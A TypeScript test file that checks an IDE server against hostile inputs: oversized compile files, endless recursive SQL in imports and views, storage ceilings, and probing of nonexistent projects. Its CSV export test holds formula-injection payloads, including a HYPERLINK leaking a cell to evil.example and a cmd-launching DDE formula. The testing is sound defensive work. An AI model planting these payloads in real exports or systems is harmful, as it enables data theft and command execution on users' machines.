/**
 * Issue 24 against the real IDE (`npm start`), for the inputs an attacker sends rather than runs:
 * a file made to make the compile step quadratic (item 3), an imported dump whose schema statement
 * never ends (item 6), snapshot retention and a database size above the operator's ceilings (item 8),
 * a visitor's formulas in the owner's CSV export (item 9), and requests for projects that do not
 * exist (which must not make files in the data folder). One server for the file.
 */
import { readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ProjectBundle } from "../../shared/time-travel";
import starEntries from "../worker/fixtures/apps/star-entries.ts?raw";
import {
  api,
  appRequest,
  clientOf,
  counterSource,
  createProject,
  deploy,
  type IdeServer,
  startServer,
} from "./ide-server";

let server: IdeServer;

beforeAll(async () => {
  server = await startServer();
});
afterAll(async () => {
  await server?.stop();
});

/** Every file under `dir`, however deep. */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

/** Requests a bystander app until stopped; how many answered and how many did not. */
function probe(projectId: string) {
  let stopped = false;
  const counts = { answered: 0, missed: 0 };
  const loop = (async () => {
    while (!stopped) {
      const ok = await appRequest(server, projectId, "/", { timeoutMs: 2_000 })
        .then((r) => r.status === 200)
        .catch(() => false);
      counts[ok ? "answered" : "missed"]++;
      await new Promise((r) => setTimeout(r, 25));
    }
  })();
  return async () => {
    stopped = true;
    await loop;
    return counts;
  };
}

/** An app whose module holds `count` arrow functions `x=>x,` in one array (about 5 bytes each). */
const arrowsApp = (count: number) =>
  `import { DurableObject } from "cloudflare:workers";
const fns = [${"x=>x,".repeat(count)}];
export class App extends DurableObject {
  async fetch(): Promise<Response> {
    return new Response(String(fns.length));
  }
}
`;

describe("item 3: a file made for a quadratic compile", () => {
  it("saves 200 KB of `x=>x,` while the other projects keep answering, and refuses a file past 512 KiB", async () => {
    const bystander = await createProject(server);
    await deploy(server, bystander, counterSource("bystander"));
    const attacker = await createProject(server);
    const freezesBefore = server.output().split("has not answered for").length;
    for (const count of [20_000, 40_000]) {
      const stop = probe(bystander.id);
      const saved = await clientOf(server).send("putCode", {
        params: { id: attacker.id },
        credential: attacker.token,
        body: { files: { "app.ts": arrowsApp(count) } },
      });
      const counts = await stop();
      console.log(`a save of ${count * 5} bytes of x=>x: ${saved.status}; bystander probes during it:`, counts);
      expect(saved.status, await saved.clone().text()).toBe(200);
      expect(await (await appRequest(server, attacker.id)).text()).toBe(String(count));
      expect(counts.missed).toBe(0);
    }
    // Past the stated limit of one file: refused before any compile.
    const tooLarge = await clientOf(server).send("putCode", {
      params: { id: attacker.id },
      credential: attacker.token,
      body: { files: { "app.ts": arrowsApp(110_000) } },
    });
    expect(tooLarge.status).toBe(400);
    expect(await tooLarge.text()).toMatch(/at most 512 KiB/);
    expect(server.output().split("has not answered for").length).toBe(freezesBefore);
  });
});

describe("item 6: an imported dump whose schema statement never ends", () => {
  it("is refused before it runs, and leaves neither a project nor the name taken", async () => {
    const source = await createProject(server);
    await deploy(server, source, counterSource("source"));
    await appRequest(server, source.id);
    const bundle = await clientOf(server).call("exportProject", {
      params: { id: source.id },
      credential: source.token,
    });
    const forged: ProjectBundle = structuredClone(bundle);
    forged.data.schema.unshift({
      type: "table",
      name: "endless",
      tableName: "endless",
      sql: "CREATE TABLE endless AS WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s) SELECT i FROM s",
    });
    const freezesBefore = server.output().split("has not answered for").length;
    // No token: importing is open to anyone while the operator has set no ACCESS_SECRET.
    const refused = await api(server, clientOf(server).path("importProject"), {
      method: "POST",
      json: { ...forged, name: "endless-import" },
    });
    const text = await refused.text();
    expect(refused.status, text).toBe(400);
    expect(text).toMatch(/not what a dump holds/);
    expect(server.output().split("has not answered for").length).toBe(freezesBefore);
    // Nothing was left behind: the name is free, and the project it would have been does not exist.
    const again = await clientOf(server).send("importProject", { body: { ...bundle, name: "endless-import" } });
    expect(again.status, await again.clone().text()).toBe(201);
    const made = (await again.json()) as { id: string; token: string };
    expect(made.id).toBe("endless-import");
    const tables = await clientOf(server).call("listTables", { params: { id: made.id }, credential: made.token });
    expect(JSON.stringify(tables)).not.toMatch(/endless/);
  });
});

describe("item 8: retention and sizes above the operator's ceilings", () => {
  it("are refused with a 400 naming the ceiling's variable, and the settings stay as they were", async () => {
    const project = await createProject(server);
    const on = { params: { id: project.id }, credential: project.token };
    const cases = [
      ["setSnapshotSettings", { maxVersions: 1000 }, "FACET_IDE_MAX_SNAPSHOTS_PER_PROJECT"],
      ["setSnapshotSettings", { maxBytes: 1e15 }, "FACET_IDE_MAX_SNAPSHOT_BYTES_PER_PROJECT"],
      ["putLimits", { databaseBytes: 10_000_000_000 }, "FACET_IDE_MAX_DATABASE_BYTES"],
    ] as const;
    for (const [route, body, variable] of cases) {
      const response = await clientOf(server).send(route, { ...on, body } as never);
      const text = await response.text();
      expect(response.status, text).toBe(400);
      expect(text).toContain(variable);
    }
    const snapshots = await clientOf(server).call("getSnapshots", on);
    expect(snapshots.settings).toEqual({ maxVersions: 20, maxBytes: 200 * 1024 * 1024 });
    expect((await clientOf(server).call("getLimits", on)).limits.databaseBytes).toBe(1024 ** 3);
  });
});

describe("item 9: a visitor's formulas in the owner's CSV export", () => {
  it("come out as text (a leading '), and exact in JSON", async () => {
    const owner = await createProject(server);
    await deploy(server, owner, starEntries);
    const entries = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
      "\t=1",
      "\r=1",
    ];
    // Visitors sign the guest book on the app's public origin, with no token.
    for (const name of entries) {
      const signed = await appRequest(server, owner.id, "/", {
        method: "POST",
        body: JSON.stringify({ name, stars: 1 }),
      });
      expect(signed.status).toBe(200);
    }
    const exported = (format: "csv" | "json") =>
      clientOf(server).send("exportTable", {
        params: { id: owner.id, table: "entries", format },
        credential: owner.token,
      });
    const csv = await (await exported("csv")).text();
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe("id,name,stars");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(csv).toContain(`"'+cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'-2+3"`);
    expect(csv).toContain(`"'@SUM(1+1)"`);
    expect(csv).toContain(`"'\t=1"`);
    expect(csv).toContain(`"'\r=1"`);
    const json = (await (await exported("json")).json()) as { name: string }[];
    expect(json.map((e) => e.name)).toEqual(entries);
  });
});

describe("item 7: an endless view in the Data view", () => {
  it("sorts, filters and pages without freezing the runtime", async () => {
    const project = await createProject(server);
    await deploy(server, project, counterSource("views"));
    const on = { params: { id: project.id }, credential: project.token };
    await clientOf(server).call("runSql", {
      ...on,
      body: {
        sql: "CREATE VIEW endless AS WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s) SELECT i FROM s",
      },
    });
    const freezesBefore = server.output().split("has not answered for").length;
    const rows = (body: object) =>
      clientOf(server).call("queryRows", {
        params: { id: project.id, table: "endless" },
        credential: project.token,
        body,
      });
    const sorted = await rows({ limit: 2, sort: [{ column: "i", descending: true }] });
    expect(sorted).toMatchObject({ totalCapped: true });
    expect(sorted.rows).toHaveLength(2);
    expect((await rows({ limit: 2, filters: [{ column: "i", op: "lt", value: 0 }] })).rows).toEqual([]);
    expect((await rows({ offset: 1e9, limit: 2 })).rows).toEqual([]);
    expect(server.output().split("has not answered for").length).toBe(freezesBefore);
  });
});

describe("requests for projects and credentials that do not exist", () => {
  it("make no file in the data folder: 200 of them leave its databases as they were", async () => {
    // A project that does exist, so the data folder has its objects' folders.
    const project = await createProject(server);
    await deploy(server, project, counterSource("exists"));
    const databases = () => filesUnder(join(server.dataDir, "v3", "do")).filter((f) => f.endsWith(".sqlite"));
    const before = databases();
    const random = (length: number, alphabet: string) =>
      Array.from(crypto.getRandomValues(new Uint8Array(length)), (b) => alphabet[b % alphabet.length]).join("");
    const lower = "abcdefghijklmnopqrstuvwxyz0123456789";
    const base64url = `${lower}ABCDEFGHIJKLMNOPQRSTUVWXYZ-_`;
    const statuses = new Map<string, number>();
    const count = (what: string, status: number) => {
      const key = `${what} ${status}`;
      statuses.set(key, (statuses.get(key) ?? 0) + 1);
    };
    for (let i = 0; i < 50; i++) {
      const id = `nobody-${random(12, lower)}`;
      count("preview", (await appRequest(server, id)).status);
      count("draft preview", (await appRequest(server, `${id}--draft`)).status);
      // A bearer shaped like a project's token, and one shaped like an agent key.
      const code = clientOf(server).path("getCode", { params: { id } });
      count("API with a token", (await api(server, code, { token: random(43, base64url) })).status);
      count("API with a key", (await api(server, code, { token: `fk_${random(43, base64url)}` })).status);
      if (i < 10) {
        const token = i % 2 ? random(43, base64url) : `fk_${random(43, base64url)}`;
        const mcp = await api(server, "/mcp", {
          method: "POST",
          token,
          json: { jsonrpc: "2.0", id: 1, method: "ping" },
        });
        count("MCP", mcp.status);
      }
    }
    // A real token on another project's id.
    const other = clientOf(server).path("getCode", { params: { id: `nobody-${random(12, lower)}` } });
    count("API with another project's token", (await api(server, other, { token: project.token })).status);
    console.log("requests for what does not exist:", Object.fromEntries(statuses));
    expect(Object.fromEntries(statuses)).toEqual({
      "preview 404": 50,
      "draft preview 404": 50,
      "API with a token 404": 50,
      "API with a key 404": 50,
      "MCP 401": 10,
      "API with another project's token 404": 1,
    });
    expect(databases()).toEqual(before);
    // The project that exists still opens.
    expect(await (await appRequest(server, project.id)).text()).toMatch(/^exists rows=\d+$/);
  });
});

describe("the operator's ceiling on the data folder", () => {
  let small: IdeServer;
  beforeAll(async () => {
    small = await startServer({ env: { FACET_IDE_MAX_DATA_FOLDER_MB: "24" } });
  });
  afterAll(async () => {
    await small?.stop();
  });

  /** An app whose GET /grow adds a row of 2 MiB; `label` makes each save's code distinct. */
  const growing = (label: string) => `import { DurableObject } from "cloudflare:workers";
export class App extends DurableObject {
  async fetch(request: Request): Promise<Response> {
    const sql = this.ctx.storage.sql;
    sql.exec("CREATE TABLE IF NOT EXISTS blobs (b BLOB)");
    if (new URL(request.url).pathname === "/grow") sql.exec("INSERT INTO blobs VALUES (randomblob(2097152))");
    const { n } = sql.exec<{ n: number }>("SELECT count(*) AS n FROM blobs").one();
    return new Response(${JSON.stringify(label)} + " blobs=" + n);
  }
}
`;

  it("refuses a save, a snapshot and an import that would pass it, before they write, naming the variable", async () => {
    const project = await createProject(small);
    const on = { params: { id: project.id }, credential: project.token };
    let refused: Response | null = null;
    let saved = 0;
    for (let i = 0; i < 20 && !refused; i++) {
      await appRequest(small, project.id, "/grow");
      const save = await clientOf(small).send("putCode", { ...on, body: { files: { "app.ts": growing(`v${i}`) } } });
      if (save.status === 507) refused = save;
      else {
        expect(save.status, await save.text()).toBe(200);
        saved++;
      }
    }
    if (!refused) throw new Error("20 saves of a growing database never reached a 24 MiB ceiling");
    const folderMiB = (bytes: number) => (bytes / 1024 / 1024).toFixed(1);
    const onDisk = filesUnder(small.dataDir).reduce((sum, f) => sum + statSync(f).size, 0);
    const message = ((await refused.json()) as { error: { code: string; message: string } }).error;
    console.log(`after ${saved} saves (the data folder at ${folderMiB(onDisk)} MiB):`, message);
    expect(message.code).toBe("insufficient_storage");
    // Each save was let through only while it fitted: the folder is at most the ceiling, give or take
    // what SQLite keeps beside a database (its write-ahead log).
    expect(onDisk).toBeLessThan(28 * 1024 * 1024);
    expect(message.message).toMatch(/past the operator's ceiling of 24\.0 MiB \(FACET_IDE_MAX_DATA_FOLDER_MB\)/);
    // Nothing was written: the live version is the last one saved.
    const versions = await clientOf(small).call("listVersions", on);
    expect(versions.versions).toHaveLength(saved);
    expect(await (await appRequest(small, project.id)).text()).toMatch(new RegExp(`^v${saved - 1} blobs=\\d+$`));
    // A snapshot taken now, and an import of the project's bundle, would pass it too.
    const snapshot = await clientOf(small).send("takeSnapshot", on);
    expect(snapshot.status, await snapshot.clone().text()).toBe(507);
    const bundle = await clientOf(small).call("exportProject", on);
    const imported = await clientOf(small).send("importProject", { body: { ...bundle, name: "one-too-many" } });
    expect(imported.status).toBe(507);
    expect(await imported.text()).toMatch(/FACET_IDE_MAX_DATA_FOLDER_MB/);
    // A change that adds nothing to speak of still goes through.
    expect((await clientOf(small).send("getCode", on)).status).toBe(200);
  });
});
